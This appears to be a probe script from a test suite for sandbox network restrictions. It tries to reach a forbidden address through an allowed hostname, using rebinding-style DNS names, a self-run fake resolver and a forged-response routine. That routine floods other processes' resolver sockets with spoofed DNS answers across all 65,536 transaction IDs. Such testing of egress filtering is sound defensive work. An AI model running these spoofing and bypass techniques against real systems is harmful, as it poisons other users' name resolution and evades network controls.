#!/usr/bin/python3 -SE
"""Has an allowed name lead to an address that it must not open, and goes there.

RESOLVER HOW ADDRESS...: how the server behaves, or what is tried besides, and the addresses that
its answer is made of; the last is gone to.
"""

import socket
import threading

from dns_message import PORT, ask, begin, family, packed, query, question, run


def reach(address):
    """A datagram, and a connection that is only begun: what comes out is seen outside."""
    kind = family(address)
    failures = []
    end = socket.getaddrinfo(address, int(target.allowed_port), kind, socket.SOCK_DGRAM)[0][4]
    with socket.socket(kind, socket.SOCK_DGRAM) as s:
        try:
            s.sendto(target.token.encode(), end)
        except OSError as e:
            failures.append(e)
    with socket.socket(kind) as s:
        s.setblocking(False)
        try:
            s.connect(end)
        except BlockingIOError:
            pass
        except OSError as e:
            failures.append(e)
    if len(failures) == 2:
        raise failures[0]


def leading(how, addresses):
    """A name whose answer says these."""
    number = target.token.rsplit('-', 1)[1]
    texts = [packed(each.split('%')[0]).hex() for each in addresses]
    return '.'.join([how + number, *texts, 'cdn.example'])


def own_resolver(host, address):
    """A resolver of the program's own, where libc would look for one."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(('127.0.0.1', PORT))

    def answer():
        message, peer = s.recvfrom(512)
        s.sendto(answer_to(message, address), peer)

    threading.Thread(target=answer, daemon=True).start()
    ask('udp-sendto', '127.0.0.1', query(question(host)))


def answer_to(message, address):
    end = message.index(b'\0', 12) + 5
    tail = b'\xc0\x0c\0\1\0\1\0\0\1\0\0\4' + packed(address)
    return message[:2] + b'\x81\x80\0\1\0\1\0\0\0\0' + message[12:end] + tail


def forged(resolver, host, address):
    """While the true answer is late, somebody answers whoever waits for that resolver."""
    message = query(question(host))
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.sendto(message, (resolver, PORT))
    forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        forger.bind(('127.0.0.1', PORT))
    except OSError:
        pass  # from another port, then
    lie = answer_to(message, address)
    for waiting, local in waiters(resolver):
        for identity in range(65536):
            try:
                forger.sendto(identity.to_bytes(2, 'big') + lie[2:], (local, waiting))
            except OSError:
                break
    forger.sendto(lie, ('127.0.0.1', asking.getsockname()[1]))
    asking.recv(512)


def waiters(resolver):
    """Sockets of this network that are connected to the resolver, whosever they are."""
    wanted = '%08X:0035' % int.from_bytes(packed(resolver), 'little')
    found = []
    for line in open('/proc/net/udp').readlines()[1:]:
        words = line.split()
        if words[2] == wanted:
            local, port = words[1].split(':')
            address = socket.inet_ntop(socket.AF_INET, int(local, 16).to_bytes(4, 'little'))
            found.append((int(port, 16), address))
    return found


def attempt():
    kind = 'AAAA' if ':' in goal else 'A'
    if how == 'private-of-another':
        ask('udp-sendto', resolver, query(question('inside.example')))
        ask('udp-sendto', resolver, query(question(leading('list', addresses))))
    elif how == 'own-resolver':
        own_resolver('api.example', goal)
    elif how == 'forged':
        forged(resolver, leading('slow', ['198.51.100.10']), goal)
    elif how == 'turn':
        host = leading(how, addresses)
        for _ in addresses:
            ask('udp-sendto', resolver, query(question(host, kind)))
    else:
        host = leading(how, addresses)
        ask('udp-sendto', resolver, query(question(host, kind)))
    reach(goal)


own, target = begin(3)
resolver, how, *addresses = [word.replace('FORBIDDEN', target.forbidden) for word in own]
goal = addresses[-1]
run(attempt)
